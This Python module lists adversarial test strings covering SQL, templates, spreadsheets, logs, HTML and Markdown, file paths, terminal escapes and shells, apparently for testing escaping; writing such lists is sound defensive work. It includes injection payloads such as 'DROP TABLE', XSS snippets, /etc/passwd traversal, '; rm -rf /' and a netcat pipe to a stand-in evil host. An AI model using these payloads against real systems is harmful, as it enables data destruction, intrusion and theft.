"""Strings that mean something to somebody who reads them carelessly: SQL, templates, spreadsheets, logs, pages, mail, paths, terminals, shells."""

from __future__ import annotations

STRINGS: tuple[str, ...] = (
    # SQL
    "' OR '1'='1", "'; DROP TABLE trail; --", '" OR ""="', "1); DELETE FROM runs; --", "x' UNION SELECT password FROM users --", "%' OR 1=1 --",
    "\\'; --", "$$; DROP TABLE runs; $$", "?; :name; %s; %(run)s",
    # templates
    "{{ 7 * 7 }}", "${7*7}", "<%= 7 * 7 %>", "{0.__class__.__mro__}", "%(secret)s", "#{7*7}", "{% include '/etc/passwd' %}", "[[${7*7}]]", "$(id)",
    # spreadsheets
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "=HYPERLINK(\"http://evil.example\")", "\uff1d1+1", '","=1+1',
    # logs and headers
    "a\nlevel=error event=forged", "a\r\n2026-01-01 forged", "x\r\nBcc: all@evil.example", "x\nSet-Cookie: a=b", "\u2028forged", "\x85forged",
    # pages and Markdown
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "<!--", "</style><script>1</script>",
    "&lt;b&gt;", "[a](http://evil.example)", "![a](http://evil.example/x.png)", "# heading", "|a|b|", "```", "<http://evil.example>", "www.evil.example",
    # paths
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "a\x00.yaml", "~root", "CON",
    # terminals, and texts that run backwards
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b2J", "\rhidden", "\x08\x08\x08", "\u202egnp.exe", "\u2066left\u2069", "a\u200bb", "\ufeffx",
    # shells and JSON
    "; rm -rf /", "`id`", "| nc evil.example 1", "&& id", '"}, {"x": "', "\\u0000", "__proto__", "null", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
)  # fmt: skip
